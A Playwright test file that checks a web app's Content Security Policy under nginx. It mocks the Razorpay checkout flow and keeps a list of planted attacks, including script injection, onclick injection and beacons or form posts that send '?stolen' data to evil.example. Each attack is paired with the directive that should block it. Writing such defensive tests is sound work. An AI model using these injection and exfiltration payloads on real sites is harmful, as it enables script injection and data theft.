import { LOCALES } from '../../src/i18n/locales.ts'
import { proves } from '../../tests/proves.ts'
import { full, sampled } from '../../tests/sample.ts'
import { active, joinNow, subscriptions } from '../checkout.ts'
import { pages } from '../fixture.ts'
import { signIn } from '../sign-in.ts'
import { expect, needsNginx, open, test } from './fixture.ts'

// The browser blocks nothing on any page or state or in the complete checkout, and its console is silent (fixture.ts
// checks both after every test).
needsNginx(test)
test.describe.configure({ mode: 'default' }) // in one worker, because each would start an nginx of its own

/** Every sixth page in one state; the full size takes every state. */
const states = sampled(
  pages.filter(({ path }, row) => full || pages.findIndex((other) => other.path === path) === row),
  20,
)

for (const [row, { name, path, ready, before, at = [320], errors = [] }] of states.entries()) {
  const locale = LOCALES[row % LOCALES.length]!
  test.describe(() => {
    test.use({ expected: { errors: [...errors] } })
    test(`the policy blocks nothing: ${name} in ${locale}`, proves('case 9'), async ({ page }) => {
      const width = at[0]!
      await page.setViewportSize({ width, height: width === 320 ? 640 : 900 })
      await before?.(page)
      await open(page, path, locale)
      await ready(page)
    })
  })
}

/** This imitates the provider's script by its rules: its own frame, pictures, reports, and the bank's window. */
const PROVIDER = `
  window.Razorpay = class {
    constructor(options) { this.options = options }
    on() {}
    open() {
      const frame = document.createElement('iframe')
      frame.title = 'Razorpay'
      frame.src = 'https://api.razorpay.com/v1/checkout/public?order=' + this.options.order_id
      frame.allow = 'payment *'
      Object.assign(frame.style, { position: 'fixed', inset: '0', width: '100%', height: '100%', border: '0', zIndex: '9' })
      const picture = new Image()
      picture.src = 'https://cdn.razorpay.com/logo.svg'
      void fetch('https://lumberjack.razorpay.com/v1/track', { method: 'POST', body: '{}', mode: 'no-cors' })
      addEventListener('message', ({ origin, data, source }) => {
        if (origin !== 'https://api.razorpay.com' && origin !== 'https://bank.example') return
        document.documentElement.dataset.said = (document.documentElement.dataset.said ?? '') + data.what + ' '
        if (data.what === 'pay') open('https://bank.example/', 'bank')
        if (data.what !== 'approved') return
        source.close()
        frame.remove()
        fetch('/_mock/pay', {
          method: 'POST', headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ order_id: this.options.order_id }),
        }).then((reply) => reply.json()).then(this.options.handler)
      })
      document.body.append(frame, picture)
    }
  }`
const HTML = { contentType: 'text/html' }

test('the payment provider’s script, frame, pictures, reports and bank window work', async ({ page, context }) => {
  const asked: string[] = []
  await context.route(/razorpay\.com|bank\.example/, async (route) => {
    const url = route.request().url()
    asked.push(new URL(url).host + new URL(url).pathname)
    if (url.endsWith('checkout.js')) await route.fulfill({ contentType: 'text/javascript', body: PROVIDER })
    else if (url.includes('/logo.svg'))
      await route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' })
    else if (url.includes('/track')) await route.fulfill({ status: 204 })
    else if (url.includes('api.razorpay.com')) {
      await route.fulfill({
        ...HTML,
        body: `<!doctype html><title>pay</title><button onclick="parent.postMessage({ what: 'pay' }, '*')">Pay at the bank</button>`,
      })
    } else {
      await route.fulfill({
        ...HTML,
        body: `<!doctype html><title>bank</title><link rel="icon" href="data:,"><button onclick="opener.postMessage({ what: 'approved' }, '*')">Approve</button>`,
      })
    }
  })
  await page.route('**/config.json', (route) =>
    route.fulfill({
      json: { checkout: { script: 'https://checkout.razorpay.com/v1/checkout.js', key: 'rzp_live_x' } },
    }),
  )
  const { token } = await signIn(page, 'farmer')
  await open(page, '/subscription', 'en')
  const bank = context.waitForEvent('page')
  await joinNow(page).click()
  await page.frameLocator('iframe[title=Razorpay]').getByRole('button', { name: 'Pay at the bank' }).click()
  await (await bank).getByRole('button', { name: 'Approve' }).click()
  await expect(active(page)).toBeVisible()
  expect(await subscriptions(page, token)).toHaveLength(1)
  expect(await page.locator('html').getAttribute('data-said')).toBe('pay approved ')
  expect(new Set(asked)).toEqual(
    new Set([
      'checkout.razorpay.com/v1/checkout.js',
      'api.razorpay.com/v1/checkout/public',
      'cdn.razorpay.com/logo.svg',
      'lumberjack.razorpay.com/v1/track',
      'bank.example/',
    ]),
  )
})

/** Attacks, and the directive that must block each: an element that is added, or what a script does. */
const PLANTED: [directive: string, attack: [tag: string, properties: object] | (() => unknown)][] = [
  ['script-src-elem', ['script', { text: 'owned()' }]],
  ['script-src-elem', ['script', { src: 'https://evil.example/x.js' }]],
  ['script-src-attr', () => document.body.setAttribute('onclick', 'owned()')],
  ['script-src', () => void Reflect.apply(setTimeout, window, ['owned()', 0])],
  ['style-src-attr', () => document.body.setAttribute('style', 'color: red')],
  ['style-src-elem', ['style', { textContent: 'p { color: red }' }]],
  ['img-src', () => void (new Image().src = 'https://evil.example/?stolen')],
  ['connect-src', () => void fetch('https://evil.example/?stolen').catch(() => undefined)],
  ['frame-src', ['iframe', { src: 'https://evil.example/' }]],
  [
    'form-action',
    () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' })
      document.body.append(form)
      form.submit()
    },
  ],
  ['base-uri', ['base', { href: 'https://evil.example/' }]],
  ['object-src', ['object', { data: '/icon.svg' }]],
  ['worker-src', () => new Worker(URL.createObjectURL(new Blob(['']))).terminate()],
  ['require-trusted-types-for', () => void (document.createElement('div').innerHTML = '<img src=x>')],
]

test.describe('planted attacks', () => {
  test.use({
    expected: {
      errors: [/Content Security Policy|TrustedHTML|Refused|violates|net::ERR|Executing inline|Loading|Applying/i],
    },
  })

  test('are reported by the browser’s event, in the console and at nginx', async ({ page, violations, nginx }) => {
    await open(page, '/term', 'en')
    for (const [directive, attack] of PLANTED) {
      if (typeof attack === 'function') await page.evaluate(attack)
      else
        await page.evaluate(
          ([tag, properties]) => document.body.append(Object.assign(document.createElement(tag), properties)),
          attack,
        )
      await expect.poll(() => violations.map((violation) => violation.directive), directive).toContain(directive)
      violations.length = 0
    }
    // Each was also reported, and nginx logged it.
    await expect.poll(() => nginx.log('csp')).toContain('evil.example')
    const lines = nginx
      .log('csp')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { report: string })
    const report = JSON.parse(lines[0]!.report) as { 'csp-report': { 'document-uri': string } }
    expect(report['csp-report']['document-uri']).toBe(`${nginx.origin}/term`)
    violations.length = 0
  })

  test('can’t show the app in another site’s frame', async ({ page, nginx, context, violations }) => {
    await context.route('https://frames.example/', (route) =>
      route.fulfill({
        ...HTML,
        body: `<!doctype html><title>.</title><link rel="icon" href="data:,"><iframe src="${nginx.origin}/"></iframe>`,
      }),
    )
    await page.goto('https://frames.example/')
    await expect(page.frameLocator('iframe').locator('#root')).toHaveCount(0)
    violations.length = 0
  })
})
